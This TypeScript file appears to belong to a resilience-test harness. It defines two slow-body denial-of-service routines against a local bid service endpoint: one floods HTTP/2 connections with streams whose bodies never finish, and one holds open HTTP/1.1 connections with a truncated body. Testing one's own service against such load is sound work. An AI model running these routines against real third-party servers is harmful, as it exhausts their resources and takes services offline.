import { type Attack, scaled, untilOver } from './attack.ts'
import {
  END_HEADERS,
  frame,
  headerBlock,
  openHttp2,
  requestHeaders,
  streamId,
} from './raw-http2.ts'
import { countOpen, openSockets } from './raw-socket.ts'

const BODY_BYTES = 60_000
const body = Buffer.alloc(BODY_BYTES, ' ')

const HTTP2_CONNECTIONS = 20
const STREAMS = 1_000
const HTTP1_CONNECTIONS = 1_500

const path = '/bids.v1.BidService/CreateItem'
const block = headerBlock(requestHeaders(path, 'application/json'))

export const halfSentBodiesHttp2: Attack = {
  name: 'half-sent-bodies-http2',
  description: '20 HTTP/2 connections with 1,000 bodies of 60 kB each that never end',
  run: async (context) => {
    const connections = Array.from({ length: HTTP2_CONNECTIONS }, () => openHttp2(context))
    const over = untilOver(context)
    let sent = 0
    await Promise.all(
      connections.map(async ({ socket, sendData }) => {
        const streams = scaled(STREAMS, context)
        for (let index = 0; index < streams && !socket.destroyed; index += 1) {
          if (context.signal.aborted) return
          socket.write(frame('headers', END_HEADERS, streamId(index), block))
          await Promise.race([sendData(streamId(index), body), over])
          sent += 1
        }
      }),
    )
    await over
    const open = countOpen(connections.map(({ socket }) => socket))
    return `${sent} bodies half sent, ${open} of ${HTTP2_CONNECTIONS} connections open at the end`
  },
}

export const halfSentBodiesHttp1: Attack = {
  name: 'half-sent-bodies-http1',
  description: '1,500 connections with a body of 60 kB that never ends',
  run: async (context) => {
    const head = [
      `POST ${path} HTTP/1.1`,
      'host: localhost',
      'content-type: application/json',
      `content-length: ${BODY_BYTES + 1}`,
    ].join('\r\n')
    const sockets = await openSockets(context, scaled(HTTP1_CONNECTIONS, context), (socket) => {
      socket.resume().write(`${head}\r\n\r\n`)
      socket.write(body)
    })
    await untilOver(context)
    return `${sockets.length} bodies half sent, ${countOpen(sockets)} open at the end`
  },
}
